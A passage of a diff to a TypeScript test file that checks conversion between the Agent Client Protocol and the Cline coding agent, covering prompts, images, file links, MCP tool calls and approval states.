+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    const turn = agent.prompt({ sessionId, prompt: [{ type: "text", text: "Go" }] });
+    await vi.waitFor(() => expect(agent.getSession(sessionId)?.turnInProgress).toBe(true));
 
-      expect(isWaitingForUserInput(messages)).toBe(true);
-    });
+    await expect(agent.newSession({ cwd: "/project", mcpServers: [] })).rejects.toThrow(/busy/);
+    expect(agent.getSession(sessionId)).toBeDefined();
 
-    it("should return false if last message is partial", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.PLAN_MODE_RESPOND,
-          text: JSON.stringify({ response: "", options: [] }),
-          partial: true,
-        },
-      ];
+    finishTurn();
+    await expect(turn).resolves.toMatchObject({ stopReason: "end_turn" });
+    await agent.shutdown();
+  });
+});
 
-      expect(isWaitingForUserInput(messages)).toBe(false);
+describe("ACP to Cline conversion", () => {
+  describe("acpPromptToCline()", () => {
+    it("should concatenate text content blocks", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Hello " },
+          { type: "text", text: "World" },
+        ],
+      });
+
+      expect(clinePrompt.text).toBe("Hello \nWorld");
+      expect(clinePrompt.images).toBeUndefined();
+      expect(clinePrompt.files).toBeUndefined();
     });
 
-    it("should return false for in-progress task", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: "Working on it...",
-        },
-      ];
+    it("should convert resource_link to files array", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Check this file: " },
+          { type: "resource_link", uri: "file:///path/to/file.ts", name: "file.ts" },
+        ],
+      });
 
-      expect(isWaitingForUserInput(messages)).toBe(false);
+      expect(clinePrompt.text).toBe("Check this file: ");
+      expect(clinePrompt.files).toEqual(["/path/to/file.ts"]);
     });
 
-    it("should return false for tool ask (needs approval, not user input)", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.TOOL,
-          text: JSON.stringify({ tool: "read_file", path: "/file.ts" }),
-        },
-      ];
+    it("should append embedded resource text content", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Here is the code: " },
+          {
+            type: "resource",
+            resource: {
+              uri: "file:///path/to/code.ts",
+              text: "const x = 1;",
+            },
+          },
+        ],
+      });
 
-      expect(isWaitingForUserInput(messages)).toBe(false);
+      expect(clinePrompt.text).toContain("Here is the code: ");
+      expect(clinePrompt.text).toContain("const x = 1;");
+      expect(clinePrompt.text).toContain("[Resource: file:///path/to/code.ts]");
     });
 
-    it("should return true for api_req_failed (to end stream and show error)", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.API_REQ_FAILED,
-          text: JSON.stringify({ message: "API request failed" }),
-        },
-      ];
+    it("should create data URL from base64 image data", () => {
+      const redPixelPng =
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
 
-      expect(isWaitingForUserInput(messages)).toBe(true);
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Check this image: " },
+          { type: "image", data: redPixelPng, mimeType: "image/png" },
+        ],
+      });
+
+      expect(clinePrompt.text).toBe("Check this image: ");
+      expect(clinePrompt.images).toBeDefined();
+      expect(clinePrompt.images!.length).toBe(1);
+      // Cline expects data URLs, not file paths
+      expect(clinePrompt.images![0]).toMatch(/^data:image\/png;base64,/);
+      expect(clinePrompt.images![0]).toContain(redPixelPng);
     });
-  });
 
-  describe("needsApproval()", () => {
-    it("should return true for tool ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.TOOL,
-          text: JSON.stringify({ tool: "read_file", path: "/file.ts" }),
-        },
-      ];
+    it("should use correct MIME type for data URL", () => {
+      const jpegData = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRof";
 
-      expect(needsApproval(messages)).toBe(true);
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [{ type: "image", data: jpegData, mimeType: "image/jpeg" }],
+      });
+
+      expect(clinePrompt.images![0]).toMatch(/^data:image\/jpeg;base64,/);
     });
 
-    it("should return true for command ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.COMMAND,
-          text: JSON.stringify({ tool: "execute_command", command: "ls" }),
-        },
-      ];
+    it("should default to image/png when MIME type not provided", () => {
+      const pngData =
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
 
-      expect(needsApproval(messages)).toBe(true);
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [{ type: "image", data: pngData } as any],
+      });
+
+      expect(clinePrompt.images![0]).toMatch(/^data:image\/png;base64,/);
     });
 
-    it("should return false for followup ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.FOLLOWUP,
-          text: "What do you want to do?",
-        },
-      ];
+    it("should skip images with empty data when no file URI", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Check this image: " },
+          // Empty data and no valid file URI
+          { type: "image", data: "", mimeType: "image/png" },
+        ],
+      });
 
-      expect(needsApproval(messages)).toBe(false);
+      expect(clinePrompt.text).toBe("Check this image: ");
+      expect(clinePrompt.images).toBeUndefined();
     });
 
-    it("should return false for say messages", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: "Hello",
-        },
-      ];
+    it("should handle mixed content types", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Hello" },
+          { type: "resource_link", uri: "file:///test.ts", name: "test.ts" },
+        ],
+      });
 
-      expect(needsApproval(messages)).toBe(false);
+      expect(clinePrompt.text).toBe("Hello");
+      expect(clinePrompt.files).toEqual(["/test.ts"]);
     });
-  });
 
-  describe("extractMessagesFromState()", () => {
-    it("should parse messages from state JSON", () => {
-      const stateJson = JSON.stringify({
-        clineMessages: [
-          {
-            ts: 1234567890,
-            type: "say",
-            say: "text",
-            text: "Hello",
-          },
+    it("should handle multiple file attachments", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Check these files:" },
+          { type: "resource_link", uri: "file:///path/to/file1.ts", name: "file1.ts" },
+          { type: "resource_link", uri: "file:///path/to/file2.ts", name: "file2.ts" },
+          { type: "resource_link", uri: "file:///path/to/file3.json", name: "file3.json" },
         ],
       });
 
-      const messages = extractMessagesFromState(stateJson);
-
-      expect(messages.length).toBe(1);
-      expect(messages[0].text).toBe("Hello");
+      expect(clinePrompt.text).toBe("Check these files:");
+      expect(clinePrompt.files).toHaveLength(3);
+      expect(clinePrompt.files).toEqual([
+        "/path/to/file1.ts",
+        "/path/to/file2.ts",
+        "/path/to/file3.json",
+      ]);
     });
 
-    it("should handle empty state", () => {
-      const messages = extractMessagesFromState("{}");
+    it("should URL-decode file paths with special characters", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "resource_link", uri: "file:///path/with%20spaces/file%2B1.ts", name: "file.ts" },
+        ],
+      });
 
-      expect(messages).toEqual([]);
+      expect(clinePrompt.files).toEqual(["/path/with spaces/file+1.ts"]);
     });
 
-    it("should handle invalid JSON gracefully", () => {
-      const messages = extractMessagesFromState("invalid json");
+    it("should ignore non-file:// URIs in resource_link", () => {
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Check this:" },
+          { type: "resource_link", uri: "https://example.com/file.ts", name: "file.ts" },
+        ],
+      });
 
-      expect(messages).toEqual([]);
+      expect(clinePrompt.text).toBe("Check this:");
+      expect(clinePrompt.files).toBeUndefined();
     });
-  });
 
-  describe("extractMode()", () => {
-    it("should extract 'plan' mode from state", () => {
-      const stateJson = JSON.stringify({ mode: "plan" });
-      const mode = extractMode(stateJson);
-      expect(mode).toBe("plan");
-    });
+    it("should handle combined images and file attachments", () => {
+      const pngData =
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
 
-    it("should extract 'act' mode from state", () => {
-      const stateJson = JSON.stringify({ mode: "act" });
-      const mode = extractMode(stateJson);
-      expect(mode).toBe("act");
+      const clinePrompt = acpPromptToCline({
+        sessionId: "test",
+        prompt: [
+          { type: "text", text: "Check this image and file:" },
+          { type: "image", data: pngData, mimeType: "image/png" },
+          { type: "resource_link", uri: "file:///path/to/code.ts", name: "code.ts" },
+        ],
+      });
+
+      expect(clinePrompt.text).toBe("Check this image and file:");
+      expect(clinePrompt.images).toHaveLength(1);
+      expect(clinePrompt.images![0]).toMatch(/^data:image\/png;base64,/);
+      expect(clinePrompt.files).toEqual(["/path/to/code.ts"]);
+    });
+  });
+});
+
+describe("Cline to ACP conversion", () => {
+  describe("clineMessageToAcpNotification()", () => {
+    it("should convert SAY text to agent_message_chunk", () => {
+      // Pass messageIndex=1 because index 0 is skipped (user's echoed input)
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: "Hello from Cline",
+        },
+        "session-123",
+        1, // Not the first message
+      );
+
+      expect(notification).not.toBeNull();
+      expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
+      expect((notification?.update as any).content.text).toBe("Hello from Cline");
+    });
+
+    it("should skip first say:text message (user's echoed input)", () => {
+      // Index 0 say:text is always the user's echoed input - should be skipped
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: "User's message that gets echoed",
+        },
+        "session-123",
+        0, // First message
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should convert SAY reasoning to agent_thought_chunk", () => {
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.REASONING,
+          text: "Thinking about the problem...",
+        },
+        "session-123",
+      );
+
+      expect(notification).not.toBeNull();
+      expect(notification?.update.sessionUpdate).toBe("agent_thought_chunk");
+    });
+
+    it("should convert ASK followup to agent_message_chunk", () => {
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.FOLLOWUP,
+          text: "Could you clarify?",
+        },
+        "session-123",
+      );
+
+      expect(notification).not.toBeNull();
+      expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
+    });
+
+    it("should return null for API request messages", () => {
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.API_REQ_STARTED,
+        },
+        "session-123",
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should filter out retry JSON messages", () => {
+      // These are internal Cline retry mechanism messages that shouldn't be shown to users
+      const retryJson = JSON.stringify({
+        attempt: 1,
+        maxAttempts: 3,
+        delaySeconds: 0,
+      });
+
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: retryJson,
+        },
+        "session-123",
+        1, // Not first message
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should filter out failed retry JSON messages", () => {
+      const failedRetryJson = JSON.stringify({
+        attempt: 3,
+        maxAttempts: 3,
+        delaySeconds: 0,
+        failed: true,
+      });
+
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: failedRetryJson,
+        },
+        "session-123",
+        1,
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should not filter legitimate JSON responses", () => {
+      // A legitimate response that happens to be JSON
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: JSON.stringify({ message: "Here is your data", data: [1, 2, 3] }),
+        },
+        "session-123",
+        1,
+      );
+
+      expect(notification).not.toBeNull();
+    });
+
+    it("should filter out tool JSON in SAY TEXT messages", () => {
+      // Regression test - this exact JSON format was being displayed to users
+      const toolJson = JSON.stringify({
+        tool: "readFile",
+        path: "README.md",
+        content: "/Users/jasonconigliari/Projects/LLM/claude-code-acp/README.md",
+        operationIsLocatedInWorkspace: true,
+      });
+
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: toolJson,
+        },
+        "session-123",
+        1, // Not the first message
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should filter out tool JSON with only operationIsLocatedInWorkspace", () => {
+      // Another format that should be filtered
+      const toolJson = JSON.stringify({
+        operationIsLocatedInWorkspace: true,
+        someOtherField: "value",
+      });
+
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: toolJson,
+        },
+        "session-123",
+        1,
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should surface api_req_failed errors to the user", () => {
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.API_REQ_FAILED,
+          text: JSON.stringify({
+            message: "Unauthorized: Please sign in to Cline before trying again.",
+            modelId: "anthropic/claude-sonnet-4.5",
+            providerId: "cline",
+          }),
+        },
+        "session-123",
+      );
+
+      expect(notification).not.toBeNull();
+      expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
+      expect((notification?.update as any).content.text).toContain(
+        "Unauthorized: Please sign in to Cline before trying again.",
+      );
+    });
+
+    it("should return null for ASK resume_task messages", () => {
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.RESUME_TASK,
+          text: "Resume previous task?",
+        },
+        "session-123",
+      );
+
+      expect(notification).toBeNull();
+    });
+
+    it("should return null for ASK resume_completed_task messages", () => {
+      const notification = clineMessageToAcpNotification(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.RESUME_COMPLETED_TASK,
+          text: "Resume completed task?",
+        },
+        "session-123",
+      );
+
+      expect(notification).toBeNull();
+    });
+  });
+
+  describe("clineMessagesToAcpHistory()", () => {
+    it("should replay user input as user_message_chunk", () => {
+      const notifications = clineMessagesToAcpHistory(
+        [
+          { ts: 1, type: ClineMessageType.SAY, say: ClineSay.TEXT, text: "Fix the bug" },
+          { ts: 2, type: ClineMessageType.SAY, say: ClineSay.TEXT, text: "On it." },
+          { ts: 3, type: ClineMessageType.SAY, say: ClineSay.USER_FEEDBACK, text: "Also tests" },
+        ],
+        "session-123",
+      );
+
+      expect(notifications.map((n) => n.update)).toEqual([
+        { sessionUpdate: "user_message_chunk", content: { type: "text", text: "Fix the bug" } },
+        { sessionUpdate: "agent_message_chunk", content: { type: "text", text: "On it." } },
+        { sessionUpdate: "user_message_chunk", content: { type: "text", text: "Also tests" } },
+      ]);
+    });
+
+    it("should mark answered approval requests as completed", () => {
+      const notifications = clineMessagesToAcpHistory(
+        [
+          {
+            ts: 1,
+            type: ClineMessageType.ASK,
+            ask: ClineAsk.TOOL,
+            text: JSON.stringify({ tool: "read_file", path: "a.ts" }),
+          },
+        ],
+        "session-123",
+      );
+
+      expect(notifications[0].update).toMatchObject({
+        sessionUpdate: "tool_call",
+        toolCallId: "1",
+        status: "completed",
+      });
+    });
+
+    it("should skip partial messages and replay only the latest plan", () => {
+      const notifications = clineMessagesToAcpHistory(
+        [
+          { ts: 1, type: ClineMessageType.SAY, say: ClineSay.TASK_PROGRESS, text: "- [ ] One" },
+          { ts: 2, type: ClineMessageType.SAY, say: ClineSay.TEXT, text: "Half", partial: true },
+          { ts: 3, type: ClineMessageType.SAY, say: ClineSay.TASK_PROGRESS, text: "- [x] One" },
+        ],
+        "session-123",
+      );
+
+      expect(notifications).toHaveLength(1);
+      expect(notifications[0].update).toEqual({
+        sessionUpdate: "plan",
+        entries: [{ content: "One", status: "completed", priority: "medium" }],
+      });
+    });
+  });
+
+  describe("MCP tool calls", () => {
+    const mcpRequest = JSON.stringify({
+      type: "use_mcp_tool",
+      serverName: "github",
+      toolName: "list_issues",
+      arguments: '{"repo":"cline/cline"}',
+    });
+
+    it("should render a use_mcp_server ask as a pending tool call", () => {
+      const msg: ClineMessage = {
+        ts: 100,
+        type: ClineMessageType.ASK,
+        ask: ClineAsk.USE_MCP_SERVER,
+        text: mcpRequest,
+      };
+
+      const notification = clineMessageToAcpNotification(msg, "session-1");
+
+      expect(notification?.update).toMatchObject({
+        sessionUpdate: "tool_call",
+        toolCallId: "100",
+        status: "pending",
+        title: "github: list_issues",
+        kind: "other",
+        rawInput: {
+          serverName: "github",
+          toolName: "list_issues",
+          arguments: { repo: "cline/cline" },
+        },
+      });
+    });
+
+    it("should render an auto-approved use_mcp_server say as in progress", () => {
+      const msg = { ts: 100, type: "say", say: "use_mcp_server", text: mcpRequest };
+
+      const notification = clineMessageToAcpNotification(
+        msg as unknown as ClineMessage,
+        "session-1",
+        1,
+      );
+
+      expect(notification?.update).toMatchObject({
+        sessionUpdate: "tool_call",
+        status: "in_progress",
+      });
+    });
+
+    it("should treat resource access as a read", () => {
+      const msg = {
+        ts: 100,
+        type: "ask",
+        ask: "use_mcp_server",
+        text: JSON.stringify({
+          type: "access_mcp_resource",
+          serverName: "docs",
+          uri: "docs://readme",
+        }),
+      };
+
+      const notification = clineMessageToAcpNotification(msg as unknown as ClineMessage, "s");
+
+      expect(notification?.update).toMatchObject({ title: "docs: docs://readme", kind: "read" });
+    });
+
+    it("should complete the request's tool call with the server response", () => {
+      const messages = [
+        { ts: 100, type: "ask", ask: "use_mcp_server", text: mcpRequest },
+        { ts: 101, type: "say", say: "mcp_server_request_started" },
+        { ts: 102, type: "say", say: "mcp_server_response", text: "3 open issues" },
+      ] as unknown as ClineMessage[];
+
+      expect(clineMessageToAcpNotification(messages[2], "s", 2)).toBeNull();
+      expect(clineMcpResponseToAcpToolCallUpdate(messages, 2, "s")?.update).toEqual({
+        sessionUpdate: "tool_call_update",
+        toolCallId: "100",
+        status: "completed",
+        content: [{ type: "content", content: { type: "text", text: "3 open issues" } }],
+        rawOutput: { response: "3 open issues" },
+      });
+    });
+
+    it("should translate ACP server definitions to Cline's format", () => {
+      expect(
+        acpMcpServersToCline([
+          { name: "local", command: "node", args: ["server.js"], env: [] },
+          { type: "http", name: "remote", url: "https://example.com/mcp", headers: [] },
+          {
+            type: "sse",
+            name: "events",
+            url: "https://example.com/sse",
+            headers: [{ name: "Authorization", value: "Bearer x" }],
+          },
+        ]),
+      ).toEqual({
+        local: { type: "stdio", command: "node", args: ["server.js"] },
+        remote: { type: "streamableHttp", url: "https://example.com/mcp" },
+        events: {
+          type: "sse",
+          url: "https://example.com/sse",
+          headers: { Authorization: "Bearer x" },
+        },
+      });
+    });
+  });
+
+  describe("clineToolAskToAcpToolCall()", () => {
+    it("should convert read_file tool to read kind", () => {
+      const notification = clineToolAskToAcpToolCall(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({
+            tool: "read_file",
+            path: "/path/to/file.ts",
+          }),
+        },
+        "session-123",
+      );
+
+      expect(notification.update.sessionUpdate).toBe("tool_call");
+      expect((notification.update as any).kind).toBe("read");
+      expect((notification.update as any).locations).toContainEqual({ path: "/path/to/file.ts" });
+    });
+
+    it("should convert write_to_file tool to edit kind", () => {
+      const notification = clineToolAskToAcpToolCall(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({
+            tool: "write_to_file",
+            path: "/path/to/new.ts",
+            content: "const x = 1;",
+          }),
+        },
+        "session-123",
+      );
+
+      expect(notification.update.sessionUpdate).toBe("tool_call");
+      expect((notification.update as any).kind).toBe("edit");
+    });
+
+    it("should convert execute_command tool to execute kind", () => {
+      const notification = clineToolAskToAcpToolCall(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.COMMAND,
+          text: JSON.stringify({
+            tool: "execute_command",
+            command: "npm run build",
+          }),
+        },
+        "session-123",
+      );
+
+      expect(notification.update.sessionUpdate).toBe("tool_call");
+      expect((notification.update as any).kind).toBe("execute");
+    });
+
+    it("should convert search_files tool to search kind", () => {
+      const notification = clineToolAskToAcpToolCall(
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({
+            tool: "search_files",
+            path: "/path",
+            regex: "TODO",
+          }),
+        },
+        "session-123",
+      );
+
+      expect(notification.update.sessionUpdate).toBe("tool_call");
+      expect((notification.update as any).kind).toBe("search");
+    });
+
+    it("should use message timestamp as toolCallId", () => {
+      const ts = Date.now();
+      const notification = clineToolAskToAcpToolCall(
+        {
+          ts,
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({ tool: "read_file", path: "/file.ts" }),
+        },
+        "session-123",
+      );
+
+      expect((notification.update as any).toolCallId).toBe(String(ts));
+    });
+  });
+
+  describe("isTaskComplete()", () => {
+    it("should return true for completion_result ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: "Done!",
+        },
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.COMPLETION_RESULT,
+        },
+      ];
+
+      expect(isTaskComplete(messages)).toBe(true);
+    });
+
+    it("should return false for in-progress task", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: "Working on it...",
+        },
+      ];
+
+      expect(isTaskComplete(messages)).toBe(false);
+    });
+  });
+
+  describe("isWaitingForUserInput()", () => {
+    it("should return true for plan_mode_respond ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.PLAN_MODE_RESPOND,
+          text: JSON.stringify({ response: "Hello!", options: [] }),
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(true);
+    });
+
+    it("should return true for followup ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.FOLLOWUP,
+          text: "What would you like me to do next?",
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(true);
+    });
+
+    it("should return true for completion_result ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.COMPLETION_RESULT,
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(true);
+    });
+
+    it("should return false if last message is partial", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.PLAN_MODE_RESPOND,
+          text: JSON.stringify({ response: "", options: [] }),
+          partial: true,
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(false);
+    });
+
+    it("should return false for in-progress task", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: "Working on it...",
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(false);
+    });
+
+    it("should return false for tool ask (needs approval, not user input)", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({ tool: "read_file", path: "/file.ts" }),
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(false);
+    });
+
+    it("should return true for api_req_failed (to end stream and show error)", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.API_REQ_FAILED,
+          text: JSON.stringify({ message: "API request failed" }),
+        },
+      ];
+
+      expect(isWaitingForUserInput(messages)).toBe(true);
+    });
+  });
+
+  describe("getAskOptions()", () => {
+    it("should read options from followup and plan response JSON", () => {
+      expect(
+        getAskOptions({
+          ts: 1,
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.FOLLOWUP,
+          text: JSON.stringify({ question: "Which?", options: ["A", "B"] }),
+        }),
+      ).toEqual(["A", "B"]);
+      expect(
+        getAskOptions({
+          ts: 1,
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.PLAN_MODE_RESPOND,
+          planModeResponse: { response: "Plan", options: ["Go ahead"] },
+        }),
+      ).toEqual(["Go ahead"]);
+    });
+
+    it("should return no options once one was selected", () => {
+      expect(
+        getAskOptions({
+          ts: 1,
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.FOLLOWUP,
+          text: JSON.stringify({ question: "Which?", options: ["A", "B"], selected: "A" }),
+        }),
+      ).toEqual([]);
+    });
+
+    it("should return no options for plain text questions", () => {
+      expect(
+        getAskOptions({ ts: 1, type: ClineMessageType.ASK, ask: ClineAsk.FOLLOWUP, text: "Hi?" }),
+      ).toEqual([]);
+    });
+  });
+
+  describe("isUnknownAsk()", () => {
+    it("should flag ask types the agent doesn't handle", () => {
+      const messages = [
+        { ts: 1, type: ClineMessageType.ASK, ask: "new_task" as ClineAsk, text: "" },
+      ];
+      expect(isUnknownAsk(messages)).toBe(true);
+    });
+
+    it("should not flag known or partial asks", () => {
+      expect(isUnknownAsk([{ ts: 1, type: ClineMessageType.ASK, ask: ClineAsk.FOLLOWUP }])).toBe(
+        false,
+      );
+      expect(
+        isUnknownAsk([
+          { ts: 1, type: ClineMessageType.ASK, ask: "new_task" as ClineAsk, partial: true },
+        ]),
+      ).toBe(false);
+    });
+  });
+
+  describe("getTurnStopReason()", () => {
+    const askMessage = (ask: ClineAsk): ClineMessage[] => [
+      { ts: Date.now(), type: ClineMessageType.ASK, ask, text: "" },
+    ];
+
+    it("should map api_req_failed to refusal", () => {
+      expect(getTurnStopReason(askMessage(ClineAsk.API_REQ_FAILED))).toBe("refusal");
+    });
+
+    it("should map request limits to max_turn_requests", () => {
+      expect(getTurnStopReason(askMessage(ClineAsk.MISTAKE_LIMIT_REACHED))).toBe(
+        "max_turn_requests",
+      );
+      expect(getTurnStopReason(askMessage(ClineAsk.AUTO_APPROVAL_MAX_REQ_REACHED))).toBe(
+        "max_turn_requests",
+      );
+    });
+
+    it("should return end_turn otherwise", () => {
+      expect(getTurnStopReason(askMessage(ClineAsk.COMPLETION_RESULT))).toBe("end_turn");
+      expect(getTurnStopReason([])).toBe("end_turn");
+    });
+  });
+
+  describe("needsApproval()", () => {
+    it("should return true for tool ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.TOOL,
+          text: JSON.stringify({ tool: "read_file", path: "/file.ts" }),
+        },
+      ];
+
+      expect(needsApproval(messages)).toBe(true);
+    });
+
+    it("should return true for command ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.COMMAND,
+          text: JSON.stringify({ tool: "execute_command", command: "ls" }),
+        },
+      ];
+
+      expect(needsApproval(messages)).toBe(true);
+    });
+
+    it("should return false for followup ask", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.ASK,
+          ask: ClineAsk.FOLLOWUP,
+          text: "What do you want to do?",
+        },
+      ];
+
+      expect(needsApproval(messages)).toBe(false);
+    });
+
+    it("should return false for say messages", () => {
+      const messages: ClineMessage[] = [
+        {
+          ts: Date.now(),
+          type: ClineMessageType.SAY,
+          say: ClineSay.TEXT,
+          text: "Hello",
+        },
+      ];
+
+      expect(needsApproval(messages)).toBe(false);
+    });
+  });
+
+  describe("extractMessagesFromState()", () => {
+    it("should parse messages from state JSON", () => {
+      const stateJson = JSON.stringify({
+        clineMessages: [
+          {
+            ts: 1234567890,
+            type: "say",
+            say: "text",
+            text: "Hello",
+          },
+        ],
+      });
+
+      const messages = extractMessagesFromState(stateJson);
+
+      expect(messages.length).toBe(1);
+      expect(messages[0].text).toBe("Hello");
+    });
+
+    it("should handle empty state", () => {
+      const messages = extractMessagesFromState("{}");
+
+      expect(messages).toEqual([]);
+    });
+
+    it("should handle invalid JSON gracefully", () => {
+      const messages = extractMessagesFromState("invalid json");
+
+      expect(messages).toEqual([]);
+    });
+  });
+
+  describe("extractWorkspaceRoots()", () => {
+    it("should return every workspace root path", () => {
+      const stateJson = JSON.stringify({
+        workspaceRoots: [{ path: "/a" }, { path: "/b" }],
+      });
+      expect(extractWorkspaceRoots(stateJson)).toEqual(["/a", "/b"]);
+    });
+
+    it("should return an empty list for missing or invalid state", () => {
